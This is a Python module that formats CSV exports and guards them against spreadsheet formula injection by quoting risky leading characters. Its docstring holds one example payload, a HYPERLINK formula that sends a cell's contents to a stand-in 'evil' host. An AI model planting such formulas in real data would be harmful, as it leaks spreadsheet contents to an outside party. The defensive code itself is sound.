"""CSV files the app writes for users to open in a spreadsheet.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and
treats a leading tab or carriage return the same way once trimmed), so a contact or
company named ``=HYPERLINK("http://evil/?"&A1, "x")`` in an export would run in the
reader's spreadsheet. Every CSV the app writes goes through `write_csv`, which puts a
`'` before such text cells (OWASP's "CSV injection" advice); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

CsvValue = str | int | float | Decimal | date | None


def csv_cell(value: CsvValue) -> str:
    """One cell as text: `None` → "", dates in ISO form, numbers as they are, and text
    that a spreadsheet would run as a formula prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool | int | float | Decimal):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(header: Iterable[CsvValue], rows: Iterable[Iterable[CsvValue]]) -> str:
    """The CSV text (header row first, `\\n` line ends), every cell through `csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return out.getvalue()
